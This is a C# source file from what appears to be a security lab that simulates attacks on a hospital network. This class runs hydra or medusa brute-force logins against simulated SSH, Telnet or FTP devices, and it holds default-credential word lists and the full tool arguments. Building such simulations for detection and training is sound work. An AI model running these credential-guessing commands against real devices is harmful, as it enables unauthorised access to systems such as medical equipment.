using System.Text.RegularExpressions;
using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Access;

/// <summary>hydra or medusa tries a list of names with a list of passwords on a device's shell or file server.</summary>
internal sealed partial class BruteForce() : Scene("brute-force",
    "A laptop tries many user names and passwords on a device that offers SSH, Telnet or FTP.",
    "一台笔记本电脑对提供 SSH、Telnet 或 FTP 的设备批量尝试用户名和口令。",
    "T1110.001", "T1021.004")
{
    private static readonly string[] Protocols = ["ssh", "telnet", "ftp"];
    private static readonly string[] Names = ["admin", "root", "service", "user", "guest", "operator", "tech", "dicom", "administrator", "support"];
    private static readonly string[] Words = ["123456", "password", "admin", "service", "root", "12345678", "letmein", "qwerty", "dicom", "hospital", "Passw0rd", "changeme", "111111", "888888", "default"];

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [new("hydra", "hydra"), new("medusa", "medusa")];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        (string Protocol, HospitalDevice Server)[] offered = [.. Cast.Inside(stage.Site).SelectMany(device => Protocols.Where(device.Offers.Contains), (device, protocol) => (protocol, device))];
        if (offered.Length == 0) throw new LabException("no device of this hospital offers ssh, telnet or ftp");
        string protocol = stage.Dice.Of([.. offered.Select(one => one.Protocol).Distinct().Order(StringComparer.Ordinal)]);
        HospitalDevice server = stage.Dice.Of([.. offered.Where(one => one.Protocol == protocol).Select(one => one.Server)]);
        string program = protocol == "ftp" ? stage.Dice.Of(["hydra", "medusa"]) : "hydra";
        // A clear-text login takes seconds to refuse, so there are fewer of them, and more at once.
        bool isSlow = protocol == "telnet";
        string[] names = stage.Dice.Some(Names, stage.Dice.Between(1, isSlow ? 2 : 3)), words = stage.Dice.Some(Words, stage.Dice.Between(4, isSlow ? 5 : 7));
        int atOnce = isSlow ? stage.Dice.Between(6, 10) : stage.Dice.Between(3, 4);
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, stage.Dice.Of(Cast.Inside(stage.Site)).Department), cancel);
        string folder = stage.Folder("brute-force"), nameFile = Path.Combine(folder, "names"), wordFile = Path.Combine(folder, "words");
        await File.WriteAllLinesAsync(nameFile, names, cancel);
        await File.WriteAllLinesAsync(wordFile, words, cancel);

        stage.Begin();
        ProgramResult result = await stage.RunAsync(rogue, program, program == "hydra"
            ? ["-I", "-V", "-t", SceneStage.Text(atOnce), "-L", nameFile, "-P", wordFile, $"{protocol}://{server.Ip}"]
            : ["-h", server.Ip.ToString(), "-U", nameFile, "-P", wordFile, "-M", protocol, "-t", SceneStage.Text(atOnce)], cancel, seconds: 90);
        int tried = Tried().Count(result.Output), found = Found().Count(result.Output), guesses = names.Length * words.Length;
        // What has let one in is not tried further with that name.
        if (tried == 0 || (found == 0 && tried < guesses)) throw new LabException($"{program} tried {tried} of {guesses} guesses on {protocol} of {server.Key} (log: {result.Log})");
        return new SceneReport([AllOf(rogue)],
            [("attacker", rogue.Device.Ip.ToString()), ("program", program), ("protocol", protocol), ("server", server.Key), ("names", string.Join(' ', names)), ("guesses", SceneStage.Text(guesses)), ("found", SceneStage.Text(found))]);
    }

    [GeneratedRegex(@"^\[ATTEMPT\]|^ACCOUNT CHECK:", RegexOptions.Multiline)]
    private static partial Regex Tried();

    [GeneratedRegex(@"^\[\d+\]\[\w+\] host: .*password:|^ACCOUNT FOUND:", RegexOptions.Multiline)]
    private static partial Regex Found();
}
